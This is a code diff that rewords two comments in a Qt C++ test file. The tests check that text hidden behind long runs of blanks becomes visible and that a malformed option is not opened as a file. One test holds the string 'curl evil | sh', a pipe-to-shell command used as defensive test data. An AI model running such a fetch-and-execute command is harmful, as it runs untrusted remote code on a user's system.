@@ -140,7 +140,7 @@ void TestSmallParts::anAttachedSourceHidesNothing() {
     QVERIFY(buttons->button(QDialogButtonBox::Cancel)->isDefault());
 }
 
-/// What stands behind 5,000 blanks or empty lines was out of sight: now it wraps, and blanks that
+/// Text behind 5,000 blanks or empty lines used to be out of sight. Now it wraps, and blanks that
 /// are too many to be seen are told.
 void TestSmallParts::nothingHidesBehindBlanks_Y_05() {
     const QString evil = QStringLiteral("curl evil | sh");
@@ -178,7 +178,7 @@ void TestSmallParts::nothingHidesBehindBlanks_Y_05() {
     QVERIFY(view->toPlainText().contains(QString(3000, 'x')));
 }
 
-/// What is no file and no option was opened as a file.
+/// A wrong option is told, and no longer opened as a file.
 void TestSmallParts::helpAndWrongOptionsNeedNoWindow() {
     const QTemporaryDir folder;
     const QString odd = folder.filePath("--odd.duelo");
